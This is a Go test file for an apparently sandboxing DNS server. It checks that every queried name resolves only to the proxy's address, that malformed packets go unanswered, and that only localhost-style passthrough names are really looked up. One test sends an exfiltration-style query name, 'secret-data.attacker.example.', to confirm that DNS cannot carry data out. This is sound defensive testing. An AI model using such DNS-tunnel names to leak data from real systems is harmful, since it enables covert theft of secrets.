package main

import (
	"encoding/binary"
	"io"
	"net"
	"testing"

	"golang.org/x/net/dns/dnsmessage"
)

func question(t *testing.T, name string, kind dnsmessage.Type) []byte {
	t.Helper()
	message := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: 7, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: kind, Class: dnsmessage.ClassINET}},
	}
	packed, err := message.Pack()
	if err != nil {
		t.Fatal(err)
	}
	return packed
}

func overUDP(t *testing.T, address string, packet []byte) []byte {
	t.Helper()
	connection, err := net.Dial("udp", address)
	if err != nil {
		t.Fatal(err)
	}
	defer connection.Close()
	if _, err := connection.Write(packet); err != nil {
		t.Fatal(err)
	}
	answer := make([]byte, 4096)
	count, err := connection.Read(answer)
	if err != nil {
		t.Fatal(err)
	}
	return answer[:count]
}

func overTCP(t *testing.T, address string, packet []byte) []byte {
	t.Helper()
	connection, err := net.Dial("tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	defer connection.Close()
	if _, err := connection.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(packet))), packet...)); err != nil {
		t.Fatal(err)
	}
	var length [2]byte
	if _, err := io.ReadFull(connection, length[:]); err != nil {
		t.Fatal(err)
	}
	answer := make([]byte, binary.BigEndian.Uint16(length[:]))
	if _, err := io.ReadFull(connection, answer); err != nil {
		t.Fatal(err)
	}
	return answer
}

func TestEveryNameIsTheProxyAndNothingElseIsKnownOfIt(t *testing.T) {
	address := start(t, everything).doors["dns"]
	for transport, ask := range map[string]func(*testing.T, string, []byte) []byte{"udp": overUDP, "tcp": overTCP} {
		for _, kind := range []dnsmessage.Type{
			dnsmessage.TypeA, dnsmessage.TypeAAAA, dnsmessage.TypeTXT, dnsmessage.TypeMX, dnsmessage.TypeNS, dnsmessage.TypeCNAME,
			dnsmessage.TypeSRV, dnsmessage.TypePTR, dnsmessage.TypeSOA, dnsmessage.TypeALL, dnsmessage.Type(65),
		} {
			var answer dnsmessage.Message
			if err := answer.Unpack(ask(t, address, question(t, "secret-data.attacker.example.", kind))); err != nil {
				t.Fatal(err)
			}
			if answer.RCode != dnsmessage.RCodeSuccess || answer.ID != 7 || !answer.Response {
				t.Errorf("%s %s: %+v", transport, kind, answer.Header)
			}
			if kind != dnsmessage.TypeA {
				if len(answer.Answers) != 0 {
					t.Errorf("%s %s: %+v", transport, kind, answer.Answers)
				}
				continue
			}
			if len(answer.Answers) != 1 || answer.Answers[0].Body.(*dnsmessage.AResource).A != [4]byte{192, 0, 2, 10} {
				t.Errorf("%s: %+v", transport, answer.Answers)
			}
		}
	}
}

func TestWhatIsNoQuestionGetsNoAnswer(t *testing.T) {
	server := &dnsServer{}
	answer := question(t, "example.com.", dnsmessage.TypeA)
	answer[2] |= 0x80
	for _, packet := range [][]byte{nil, {1, 2, 3}, answer, answer[:len(answer)-3]} {
		if found, err := server.respond(packet); err == nil {
			t.Errorf("%v was answered: %v", packet, found)
		}
	}
}

func TestOnlyNamesOfPassthroughAreLookedUp(t *testing.T) {
	server := &dnsServer{answer: [4]byte{192, 0, 2, 10}, passthrough: []string{"localhost", "*.localhost"}}
	for name, want := range map[string][4]byte{
		"localhost.": {127, 0, 0, 1}, "a.LOCALHOST.": {127, 0, 0, 1}, "notlocalhost.": {192, 0, 2, 10},
	} {
		found := server.addresses(name)
		// Not every resolver knows what is below localhost; none may answer with the proxy's own address.
		if len(found) > 0 && found[0] != want || len(found) == 0 && want == server.answer {
			t.Errorf("%s: %v", name, found)
		}
	}
}
